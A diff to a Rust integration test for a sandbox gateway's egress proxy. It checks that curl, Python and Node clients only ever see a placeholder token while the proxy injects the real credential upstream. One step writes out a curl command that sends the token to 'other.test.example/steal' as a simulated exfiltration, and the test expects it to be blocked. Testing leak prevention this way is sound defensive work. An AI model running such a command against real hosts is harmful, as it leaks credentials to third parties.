@@ -1,6 +1,6 @@
 //! Issue 4's acceptance with real parts end to end: the real helper (private bus, see
-//! `privhelper/tests/common`) builds real sandboxes, the gateway's egress proxy serves them, a
-//! fake HTTPS upstream in its own network namespace (`egress_support`) records what arrives, and
+//! `testkit::helper`) builds real sandboxes, the gateway's egress proxy serves them, a
+//! fake HTTPS upstream in its own network namespace (`testkit::upstream`) records what arrives, and
 //! real clients run inside the sandboxes: `curl` and Python's `urllib` through `HTTPS_PROXY`,
 //! Node's built-in `fetch` (which ignores proxy variables) in transparent mode.
 //!
@@ -11,17 +11,6 @@
 //!
 //! Root only (namespaces, nftables, cgroups): a loud SKIP without root, a failure on CI.
 
-#[path = "../../privhelper/tests/common/mod.rs"]
-mod helper_harness;
-
-mod egress_support;
-
-use std::net::{IpAddr, Ipv4Addr, SocketAddr};
-use std::path::{Path, PathBuf};
-use std::sync::Arc;
-use std::time::Duration;
-
-use egress_support::{TOKEN_VALUE, contains, upstream};
 use gateway::audit::Auditor;
 use gateway::egress::{
     EgressConfig, EgressProxy, EgressShared, SandboxEgress, StaticResolver, make_placeholder,
@@ -29,8 +18,15 @@ use gateway::egress::{
 use gateway::manifest::Manifest;
 use gateway::store::{AuditEvent, SqliteStore, Store};
 use gateway::vault::{MasterKey, SecretName, SecretValue, Vault};
-use helper_harness::{Harness, PROXY_PORT, rootfs};
 use privhelper_api::{PROXY_ADDR_TOKEN, PrivHelperProxy, TransparentSockets};
+use std::net::{IpAddr, Ipv4Addr, SocketAddr};
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+use std::time::Duration;
+use testkit::egress::{TOKEN_VALUE, contains};
+use testkit::helper::{Harness, PROXY_PORT};
+use testkit::netns::NamedNetns;
+use testkit::{rootfs, upstream};
 
 const NOT_EXPANDED: &str = "$HOME ${PATH} @GIGMCP_PROXY_ADDR @HOME@ @gigmcp_proxy_addr@";
 
@@ -38,20 +34,21 @@ const NOT_EXPANDED: &str = "$HOME ${PATH} @GIGMCP_PROXY_ADDR @HOME@ @gigmcp_prox
 const CA_NAME: &str = "gateway-ca.pem";
 const CA_IN_SANDBOX: &str = "/run/gigmcp/ca.pem";
 
-/// The upstream's namespace and link. Names and addresses of its own (not `egress_support::Net`'s
-/// `gmeg-*`/`ge*`/10.240.*, whose sweep would remove another checkout's egress tests running at
-/// the same time, or be removed by theirs).
-const UPSTREAM_NS: &str = "gmsbx-up";
+/// The upstream's link, in the test's own network namespace (so its name and addresses are
+/// the test's alone).
 const UPSTREAM_LINK: &str = "gsbxu";
 const UPSTREAM_NET: &str = "10.239.77.0/30";
 const UPSTREAM_HOST_SIDE: Ipv4Addr = Ipv4Addr::new(10, 239, 77, 1);
 const UPSTREAM_IP: Ipv4Addr = Ipv4Addr::new(10, 239, 77, 2);
 
-struct UpNet;
+/// The upstream's namespace: a generated name (`/run/netns` is host-wide); deleting it on drop
+/// deletes the veth pair too.
+struct UpNet {
+    ns: NamedNetns,
+}
 
 impl UpNet {
     fn new() -> Self {
-        Self::remove();
         let ip = |args: &[&str]| {
             let out = std::process::Command::new("ip")
                 .args(args)
@@ -63,7 +60,10 @@ impl UpNet {
                 String::from_utf8_lossy(&out.stderr)
             );
         };
-        ip(&["netns", "add", UPSTREAM_NS]);
+        let net = Self {
+            ns: NamedNetns::add(testkit::names::unique("gmeg")),
+        };
+        let ns = net.ns.name.as_str();
         ip(&[
             "link",
             "add",
@@ -74,7 +74,7 @@ impl UpNet {
             "name",
             "eth0",
             "netns",
-            UPSTREAM_NS,
+            ns,
         ]);
         ip(&[
             "addr",
@@ -86,35 +86,20 @@ impl UpNet {
         ip(&["link", "set", UPSTREAM_LINK, "up"]);
         ip(&[
             "-n",
-            UPSTREAM_NS,
+            ns,
             "addr",
             "add",
             &format!("{UPSTREAM_IP}/30"),
             "dev",
             "eth0",
         ]);
-        ip(&["-n", UPSTREAM_NS, "link", "set", "eth0", "up"]);
-        ip(&["-n", UPSTREAM_NS, "link", "set", "lo", "up"]);
-        Self
+        ip(&["-n", ns, "link", "set", "eth0", "up"]);
+        ip(&["-n", ns, "link", "set", "lo", "up"]);
+        net
     }
 
     fn upstream_ip(&self) -> Ipv4Addr {
         UPSTREAM_IP
-    }
-
-    fn remove() {
-        for args in [
-            &["netns", "del", UPSTREAM_NS][..],
-            &["link", "del", UPSTREAM_LINK][..],
-        ] {
-            let _ = std::process::Command::new("ip").args(args).output();
-        }
-    }
-}
-
-impl Drop for UpNet {
-    fn drop(&mut self) {
-        Self::remove();
     }
 }
 
@@ -146,7 +131,7 @@ impl Gateway {
         std::fs::write(&test_ca_pem, &test_ca.ca_pem).unwrap();
         let up = IpAddr::V4(net.upstream_ip());
         let upstream =
-            upstream::Upstream::start(UPSTREAM_NS, SocketAddr::new(up, 443), &test_ca).await;
+            upstream::Upstream::start(&net.ns.name, SocketAddr::new(up, 443), &test_ca).await;
         let mut resolver = StaticResolver::new();
         resolver
             .insert("api.test.example", vec![up])
@@ -320,8 +305,8 @@ async fn run_in_sandbox(
     }
     let timeout = Duration::from_secs(90);
     let (stdout, stderr) = tokio::task::spawn_blocking(move || {
-        let err = std::thread::spawn(move || helper_harness::read_all(stderr, timeout));
-        let out = helper_harness::read_all(stdout, timeout);
+        let err = std::thread::spawn(move || testkit::helper::read_all(stderr, timeout));
+        let out = testkit::helper::read_all(stdout, timeout);
         (out, err.join().unwrap())
     })
     .await
@@ -459,200 +444,202 @@ fn authorization_seen(gw: &Gateway, path: &str) -> Option<Vec<u8>> {
         .map(|s| s.header("authorization").unwrap_or_default().to_vec())
 }
 
-#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
-async fn real_clients_in_real_sandboxes_get_the_key_swapped_in_and_never_see_it() {
-    if !helper_harness::require_root(
+#[test]
+fn real_clients_in_real_sandboxes_get_the_key_swapped_in_and_never_see_it() {
+    testkit::privileged(
         "real_clients_in_real_sandboxes_get_the_key_swapped_in_and_never_see_it",
-    ) || !egress_support::require_root("sandbox_egress")
-    {
-        return;
-    }
-    let _serial = helper_harness::SERIAL.lock().await;
-    let h = Harness::start(0).await;
-    let client = h.client().await;
-    let gw = Gateway::start(&h).await;
-    let t0 = std::time::Instant::now();
-    let image = build_rootfs(&h);
-    eprintln!("client rootfs built in {:?}", t0.elapsed());
-    let bearer_key = format!("Bearer {TOKEN_VALUE}").into_bytes();
+        4,
+        || async {
+            let h = Harness::start(0).await;
+            let client = h.client().await;
+            let gw = Gateway::start(&h).await;
+            let t0 = std::time::Instant::now();
+            let image = build_rootfs(&h);
+            eprintln!("client rootfs built in {:?}", t0.elapsed());
+            let bearer_key = format!("Bearer {TOKEN_VALUE}").into_bytes();
 
-    // 1. curl through HTTPS_PROXY; the header comes from the environment (via sh).
-    let curl = run_in_sandbox(
-        &h,
-        &client,
-        &gw,
-        &image,
-        &[
-            "/bin/sh",
-            "-c",
-            "exec curl -sS -v --retry 10 --retry-connrefused --retry-delay 1 --max-time 30 \
-             -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.test.example/echo?c=curl",
-        ],
-        false,
-    )
-    .await;
-    curl.assert_never_saw_key("curl");
-    assert_eq!(
-        authorization_seen(&gw, "/echo?c=curl").expect("curl's request reached the upstream"),
-        bearer_key
-    );
-    // The upstream echoed the header back: the sandbox got the placeholder instead.
-    assert!(
-        curl.out()
-            .contains(&format!("x-echo-authorization: Bearer {}", gw.ph))
-            || curl
-                .err()
-                .contains(&format!("x-echo-authorization: Bearer {}", gw.ph)),
-        "echo not scrubbed back to the placeholder"
-    );
-    assert!(
-        curl.err().contains("CONNECT api.test.example:443"),
-        "curl did not use the proxy"
-    );
+            // 1. curl through HTTPS_PROXY; the header comes from the environment (via sh).
+            let curl = run_in_sandbox(
+                &h,
+                &client,
+                &gw,
+                &image,
+                &[
+                    "/bin/sh",
+                    "-c",
+                    "exec curl -sS -v --retry 10 --retry-connrefused --retry-delay 1 --max-time 30 \
+                 -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.test.example/echo?c=curl",
+                ],
+                false,
+            )
+            .await;
+            curl.assert_never_saw_key("curl");
+            assert_eq!(
+                authorization_seen(&gw, "/echo?c=curl")
+                    .expect("curl's request reached the upstream"),
+                bearer_key
+            );
+            // The upstream echoed the header back: the sandbox got the placeholder instead.
+            assert!(
+                curl.out()
+                    .contains(&format!("x-echo-authorization: Bearer {}", gw.ph))
+                    || curl
+                        .err()
+                        .contains(&format!("x-echo-authorization: Bearer {}", gw.ph)),
+                "echo not scrubbed back to the placeholder"
+            );
+            assert!(
+                curl.err().contains("CONNECT api.test.example:443"),
+                "curl did not use the proxy"
+            );
 
-    // 2. Python's urllib through HTTPS_PROXY; it also prints its environment.
-    let py = run_in_sandbox(
-        &h,
-        &client,
-        &gw,
-        &image,
-        &["/usr/bin/python3", "-I", "-S", "-c", PY_CLIENT],
-        false,
-    )
-    .await;
-    py.assert_never_saw_key("python");
-    assert!(py.out().contains("STATUS 200"), "python failed");
-    assert_eq!(
-        authorization_seen(&gw, "/echo?c=python").expect("python's request reached the upstream"),
-        bearer_key
-    );
-    // The helper substituted N.1, and only there.
-    let proxy_url = format!("http://{}:{PROXY_PORT}", py.host_addr);
-    assert!(
-        py.out()
-            .contains(&format!("('HTTPS_PROXY', '{proxy_url}')")),
-        "HTTPS_PROXY not substituted"
-    );
-    assert!(py.out().contains(&format!("('GITHUB_TOKEN', '{}')", gw.ph)));
-    assert!(!py.out().contains(PROXY_ADDR_TOKEN));
-    assert!(
-        py.out()
-            .contains(&format!("('NOT_EXPANDED', '{NOT_EXPANDED}')")),
-        "a value without the exact token was changed"
-    );
+            // 2. Python's urllib through HTTPS_PROXY; it also prints its environment.
+            let py = run_in_sandbox(
+                &h,
+                &client,
+                &gw,
+                &image,
+                &["/usr/bin/python3", "-I", "-S", "-c", PY_CLIENT],
+                false,
+            )
+            .await;
+            py.assert_never_saw_key("python");
+            assert!(py.out().contains("STATUS 200"), "python failed");
+            assert_eq!(
+                authorization_seen(&gw, "/echo?c=python")
+                    .expect("python's request reached the upstream"),
+                bearer_key
+            );
+            // The helper substituted N.1, and only there.
+            let proxy_url = format!("http://{}:{PROXY_PORT}", py.host_addr);
+            assert!(
+                py.out()
+                    .contains(&format!("('HTTPS_PROXY', '{proxy_url}')")),
+                "HTTPS_PROXY not substituted"
+            );
+            assert!(py.out().contains(&format!("('GITHUB_TOKEN', '{}')", gw.ph)));
+            assert!(!py.out().contains(PROXY_ADDR_TOKEN));
+            assert!(
+                py.out()
+                    .contains(&format!("('NOT_EXPANDED', '{NOT_EXPANDED}')")),
+                "a value without the exact token was changed"
+            );
 
-    // 3. Node's built-in fetch ignores HTTPS_PROXY: transparent mode serves it.
-    let node = run_in_sandbox(
-        &h,
-        &client,
-        &gw,
-        &image,
-        &[
-            "/bin/node",
-            "-e",
-            "fetch('https://api.test.example/echo?c=node', \
-               {headers: {authorization: 'Bearer ' + process.env.GITHUB_TOKEN}})\
-             .then(async r => { console.log('STATUS', r.status); \
-               for (const [k, v] of r.headers) console.log(k + ': ' + v); \
-               console.log(await r.text()); })\
-             .catch(e => { console.error('FETCH ERROR', e, e.cause); process.exitCode = 1; });",
-        ],
-        true,
-    )
-    .await;
-    node.assert_never_saw_key("node");
-    assert!(node.out().contains("STATUS 200"), "node fetch failed");
-    assert_eq!(
-        authorization_seen(&gw, "/echo?c=node").expect("node's request reached the upstream"),
-        bearer_key
-    );
-    assert!(
-        node.out()
-            .contains(&format!("x-echo-authorization: Bearer {}", gw.ph))
-    );
+            // 3. Node's built-in fetch ignores HTTPS_PROXY: transparent mode serves it.
+            let node = run_in_sandbox(
+                &h,
+                &client,
+                &gw,
+                &image,
+                &[
+                    "/bin/node",
+                    "-e",
+                    "fetch('https://api.test.example/echo?c=node', \
+                   {headers: {authorization: 'Bearer ' + process.env.GITHUB_TOKEN}})\
+                 .then(async r => { console.log('STATUS', r.status); \
+                   for (const [k, v] of r.headers) console.log(k + ': ' + v); \
+                   console.log(await r.text()); })\
+                 .catch(e => { console.error('FETCH ERROR', e, e.cause); process.exitCode = 1; });",
+                ],
+                true,
+            )
+            .await;
+            node.assert_never_saw_key("node");
+            assert!(node.out().contains("STATUS 200"), "node fetch failed");
+            assert_eq!(
+                authorization_seen(&gw, "/echo?c=node")
+                    .expect("node's request reached the upstream"),
+                bearer_key
+            );
+            assert!(
+                node.out()
+                    .contains(&format!("x-echo-authorization: Bearer {}", gw.ph))
+            );
 
-    // Node came in through the transparent listener (host from SNI), not the proxy port.
-    let events = gw.audit().await;
-    assert!(
-        events.iter().any(|e| e.action == "egress.connect"
-            && e.target == "api.test.example:443"
-            && e.detail.contains("kind=transparent")),
-        "no transparent-mode connection audited: {events:#?}"
-    );
+            // Node came in through the transparent listener (host from SNI), not the proxy port.
+            let events = gw.audit().await;
+            assert!(
+                events.iter().any(|e| e.action == "egress.connect"
+                    && e.target == "api.test.example:443"
+                    && e.detail.contains("kind=transparent")),
+                "no transparent-mode connection audited: {events:#?}"
+            );
 
-    // 4. The placeholder sent to an allowlisted host it is not bound to: refused, audited,
-    //    nothing reaches the upstream.
-    let before = gw.upstream.seen().len();
-    let exfil = run_in_sandbox(
-        &h,
-        &client,
-        &gw,
-        &image,
-        &[
-            "/bin/sh",
-            "-c",
-            "exec curl -sS --retry 10 --retry-connrefused --retry-delay 1 --max-time 30 \
-             -o /dev/null -w '%{http_code}' \
-             -H \"Authorization: Bearer $GITHUB_TOKEN\" https://other.test.example/steal",
-        ],
-        false,
-    )
-    .await;
-    exfil.assert_never_saw_key("exfiltration attempt");
-    assert_eq!(exfil.out(), "403");
-    assert_eq!(
-        gw.upstream.seen().len(),
-        before,
-        "the request reached the upstream"
-    );
-    assert!(!gw.upstream.ever_saw(gw.ph.as_bytes()));
-    let events = gw.audit().await;
-    assert!(
-        events.iter().any(|e| e.action == "egress.denied"
-            && e.target.contains("other.test.example")
-            && e.detail.contains("API_TOKEN")),
-        "exfiltration not audited: {events:#?}"
-    );
+            // 4. The placeholder sent to an allowlisted host it is not bound to: refused, audited,
+            //    nothing reaches the upstream.
+            let before = gw.upstream.seen().len();
+            let exfil = run_in_sandbox(
+                &h,
+                &client,
+                &gw,
+                &image,
+                &[
+                    "/bin/sh",
+                    "-c",
+                    "exec curl -sS --retry 10 --retry-connrefused --retry-delay 1 --max-time 30 \
+                 -o /dev/null -w '%{http_code}' \
+                 -H \"Authorization: Bearer $GITHUB_TOKEN\" https://other.test.example/steal",
+                ],
+                false,
+            )
+            .await;
+            exfil.assert_never_saw_key("exfiltration attempt");
+            assert_eq!(exfil.out(), "403");
+            assert_eq!(
+                gw.upstream.seen().len(),
+                before,
+                "the request reached the upstream"
+            );
+            assert!(!gw.upstream.ever_saw(gw.ph.as_bytes()));
+            let events = gw.audit().await;
+            assert!(
+                events.iter().any(|e| e.action == "egress.denied"
+                    && e.target.contains("other.test.example")
+                    && e.detail.contains("API_TOKEN")),
+                "exfiltration not audited: {events:#?}"
+            );
 
-    // 5. A direct connection to the upstream, bypassing the proxy: no route.
-    let upstream_addr = gw.net.upstream_ip();
-    let direct = run_in_sandbox(
-        &h,
-        &client,
-        &gw,
-        &image,
-        &[
-            "/bin/curl",
-            "-sS",
-            "--noproxy",
-            "*",
-            "--connect-timeout",
-            "5",
-            "-k",
-            &format!("https://{upstream_addr}/direct"),
-        ],
-        false,
-    )
-    .await;
-    assert!(
-        direct.err().contains("Couldn't connect") || direct.err().contains("nreachable"),
-        "direct connection did not fail to connect: {}",
-        direct.err()
-    );
-    assert_eq!(
-        gw.upstream.seen().len(),
-        before,
-        "the direct request arrived"
-    );
+            // 5. A direct connection to the upstream, bypassing the proxy: no route.
+            let upstream_addr = gw.net.upstream_ip();
+            let direct = run_in_sandbox(
+                &h,
+                &client,
+                &gw,
+                &image,
+                &[
+                    "/bin/curl",
+                    "-sS",
+                    "--noproxy",
+                    "*",
+                    "--connect-timeout",
+                    "5",
+                    "-k",
+                    &format!("https://{upstream_addr}/direct"),
+                ],
+                false,
+            )
+            .await;
+            assert!(
+                direct.err().contains("Couldn't connect") || direct.err().contains("nreachable"),
+                "direct connection did not fail to connect: {}",
+                direct.err()
+            );
+            assert_eq!(
+                gw.upstream.seen().len(),
+                before,
+                "the direct request arrived"
+            );
 
-    // Nowhere in the sandbox's filesystem.
-    assert_no_file_holds_key(&h.images);
-    // And the upstream saw the key exactly where declared: three requests, each in the header.
-    let with_key = gw
-        .upstream
-        .seen()
-        .iter()
-        .filter(|s| contains(&s.all_bytes(), TOKEN_VALUE.as_bytes()))
-        .count();
-    assert_eq!(with_key, 3);
+            // Nowhere in the sandbox's filesystem.
+            assert_no_file_holds_key(&h.images);
+            // And the upstream saw the key exactly where declared: three requests, each in the header.
+            let with_key = gw
+                .upstream
+                .seen()
+                .iter()
+                .filter(|s| contains(&s.all_bytes(), TOKEN_VALUE.as_bytes()))
+                .count();
+            assert_eq!(with_key, 3);
+        },
+    );
 }
